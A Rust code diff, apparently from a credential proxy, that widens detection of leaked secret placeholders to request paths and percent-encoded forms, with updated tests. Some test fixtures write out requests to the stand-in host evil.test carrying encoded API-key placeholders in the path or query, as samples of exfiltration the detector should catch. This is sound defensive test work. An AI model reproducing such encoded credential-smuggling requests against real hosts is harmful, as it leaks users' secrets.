@@ -88,13 +88,13 @@ impl Placeholders {
         Ok(v)
     }
 
-    /// True when some provider other than `own` has a placeholder (else
-    /// no request can carry a foreign one).
-    pub fn any_other_than(&self, own: Option<&str>) -> bool {
+    /// True when some provider not in `own` has a placeholder (else no
+    /// request can carry a foreign one).
+    pub fn any_other_than(&self, own: &[&str]) -> bool {
         self.read()
             .by_provider
             .keys()
-            .any(|k| Some(k.as_str()) != own)
+            .any(|k| !own.contains(&k.as_str()))
     }
 
     /// `text` with every placeholder replaced by `[placeholder]` (for the
@@ -103,22 +103,30 @@ impl Placeholders {
         let Some(matcher) = self.read().matcher.clone() else {
             return std::borrow::Cow::Borrowed(text);
         };
-        if !matcher.ac.is_match(text) {
-            return std::borrow::Cow::Borrowed(text);
+        let marks = || vec!["[placeholder]"; matcher.owners.len()];
+        if matcher.ac.is_match(text) {
+            return std::borrow::Cow::Owned(matcher.ac.replace_all(text, &marks()));
         }
-        let marks = vec!["[placeholder]"; matcher.owners.len()];
-        std::borrow::Cow::Owned(matcher.ac.replace_all(text, &marks))
+        if text.contains('%') {
+            // Also a placeholder written percent-encoded.
+            let decoded = crate::percent::decode(text);
+            if matcher.ac.is_match(&decoded) {
+                return std::borrow::Cow::Owned(matcher.ac.replace_all(&decoded, &marks()));
+            }
+        }
+        std::borrow::Cow::Borrowed(text)
     }
 
-    /// The provider whose placeholder occurs in `hay`, other than `own`
-    /// (a child's own placeholder on its own provider's hosts is expected).
-    pub fn foreign_in(&self, hay: &[u8], own: Option<&str>) -> Option<String> {
+    /// The provider whose placeholder occurs in `hay`, other than those in
+    /// `own` (the providers of the host the request goes to: a child's own
+    /// placeholder on its provider's hosts is expected).
+    pub fn foreign_in(&self, hay: &[u8], own: &[&str]) -> Option<String> {
         let matcher = self.read().matcher.clone()?;
         matcher
             .ac
             .find_iter(hay)
             .map(|m| &matcher.owners[m.pattern().as_usize()])
-            .find(|owner| Some(owner.as_str()) != own)
+            .find(|owner| !own.contains(&owner.as_str()))
             .cloned()
     }
 }
@@ -144,6 +152,7 @@ impl Set {
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Location {
     Header,
+    Path,
     Query,
     Body,
 }
@@ -153,34 +162,38 @@ impl Location {
     pub fn as_str(self) -> &'static str {
         match self {
             Location::Header => "header",
+            Location::Path => "path",
             Location::Query => "query",
             Location::Body => "body",
         }
     }
 }
 
-/// The first foreign placeholder in a request's headers or query:
+/// The first foreign placeholder in a request's headers, path or query:
 /// `(provider it belongs to, where)`.
 pub fn in_head<B>(
     placeholders: &Placeholders,
     req: &http::Request<B>,
-    own: Option<&str>,
+    own: &[&str],
 ) -> Option<(String, Location)> {
     for v in req.headers().values() {
         if let Some(p) = placeholders.foreign_in(v.as_bytes(), own) {
             return Some((p, Location::Header));
         }
     }
-    let query = req.uri().query()?;
-    if let Some(p) = placeholders.foreign_in(query.as_bytes(), own) {
-        return Some((p, Location::Query));
-    }
     // A placeholder is letters, digits and `-_.`: percent-encoding them is
     // legal but unusual; decode to see through it.
-    let decoded = crate::percent::decode(query);
-    placeholders
-        .foreign_in(decoded.as_bytes(), own)
-        .map(|p| (p, Location::Query))
+    let seen = |s: &str| {
+        placeholders.foreign_in(s.as_bytes(), own).or_else(|| {
+            s.contains('%')
+                .then(|| crate::percent::decode(s))
+                .and_then(|d| placeholders.foreign_in(d.as_bytes(), own))
+        })
+    };
+    if let Some(p) = seen(req.uri().path()) {
+        return Some((p, Location::Path));
+    }
+    seen(req.uri().query()?).map(|p| (p, Location::Query))
 }
 
 #[cfg(test)]
@@ -211,21 +224,30 @@ mod tests {
             .header("authorization", "Bearer sk-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")
             .body(())
             .unwrap();
-        assert_eq!(in_head(&p, &req, Some("openai")), None);
+        assert_eq!(in_head(&p, &req, &["openai"]), None);
+        assert_eq!(in_head(&p, &req, &["x", "openai"]), None);
         assert_eq!(
-            in_head(&p, &req, Some("github")),
+            in_head(&p, &req, &["github"]),
             Some(("openai".into(), Location::Header))
         );
         assert_eq!(
-            in_head(&p, &req, None),
+            in_head(&p, &req, &[]),
             Some(("openai".into(), Location::Header))
+        );
+        let req = http::Request::builder()
+            .uri("https://evil.test/bot%73k-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/send")
+            .body(())
+            .unwrap();
+        assert_eq!(
+            in_head(&p, &req, &[]),
+            Some(("openai".into(), Location::Path))
         );
         let req = http::Request::builder()
             .uri("https://evil.test/c?k=%67hp_BBBBBBBBBBBBBBBBBBBBBBBBBBBBBB")
             .body(())
             .unwrap();
         assert_eq!(
-            in_head(&p, &req, None),
+            in_head(&p, &req, &[]),
             Some(("github".into(), Location::Query))
         );
         let clean = http::Request::builder()
@@ -233,7 +255,11 @@ mod tests {
             .header("x", "sk-AAAA")
             .body(())
             .unwrap();
-        assert_eq!(in_head(&p, &clean, None), None);
+        assert_eq!(in_head(&p, &clean, &[]), None);
+    }
+
+    fn authsome_encode(s: &str) -> String {
+        s.bytes().map(|b| format!("%{b:02X}")).collect()
     }
 
     #[test]
@@ -243,14 +269,18 @@ mod tests {
         assert!(late.starts_with("authsome-"), "{late}");
         assert_eq!(p.get("slack").unwrap(), late);
         assert_eq!(
-            p.foreign_in(format!("x{late}y").as_bytes(), None),
+            p.foreign_in(format!("x{late}y").as_bytes(), &[]),
             Some("slack".into())
         );
-        assert_eq!(p.foreign_in(late.as_bytes(), Some("slack")), None);
+        assert_eq!(p.foreign_in(late.as_bytes(), &["slack"]), None);
         assert_eq!(
             p.mask(&format!("/bot{late}/send")),
             "/bot[placeholder]/send"
         );
         assert_eq!(p.mask("/v1/models"), "/v1/models");
+        assert_eq!(
+            p.mask(&format!("/a/{}", authsome_encode(&late))),
+            "/a/[placeholder]"
+        );
     }
 }
